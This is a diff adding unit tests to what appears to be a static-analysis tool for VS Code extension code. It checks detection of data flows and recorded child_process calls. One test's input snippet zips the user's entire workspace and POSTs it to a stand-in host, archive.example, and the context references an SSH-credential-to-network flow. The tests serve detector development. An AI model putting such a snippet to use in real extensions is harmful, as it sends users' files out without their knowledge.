@@ -330,4 +330,33 @@ class BundledLibrariesTest {
 
         assertThat(analysis.flows("ssh-credentials", "network-send")).isNotEmpty();
     }
+
+    @Test
+    void anArchiveSendsWhatItIsFilledWithAfterItWasConnected() {
+        Analysis analysis = Analysis.of("""
+                const vscode = require('vscode'), archive = require('archiver')('zip');
+                archive.pipe(require('https').request('https://archive.example/', { method: 'POST' }));
+                archive.directory(vscode.workspace.workspaceFolders[0].uri.fsPath, false);
+                """);
+
+        assertThat(analysis.flowNames()).contains("workspace-file -> network-send");
+    }
+
+    @Test
+    void nothingOfAKnownLibraryIsTriedOutThatTheCatalogueDescribes() {
+        Analysis analysis = Analysis.of("""
+                const cp = require('child_process');
+                const execa = (file, args, options) => cp.spawn(file, args, options);
+                execa.sync = (file, args, options) => cp.spawnSync(file, args, options);
+                execa.command = (line, options) => execa(line, [], options);
+                execa.commandSync = (line, options) => execa.sync(line, [], options);
+                execa.node = (file, args) => execa('node', [file, ...args]);
+                execa('ls', ['-l']);
+                """);
+
+        assertThat(analysis.calls())
+                .extracting(call -> call.api())
+                .contains("node:child_process.spawn")
+                .doesNotContain("node:child_process.spawnSync");
+    }
 }
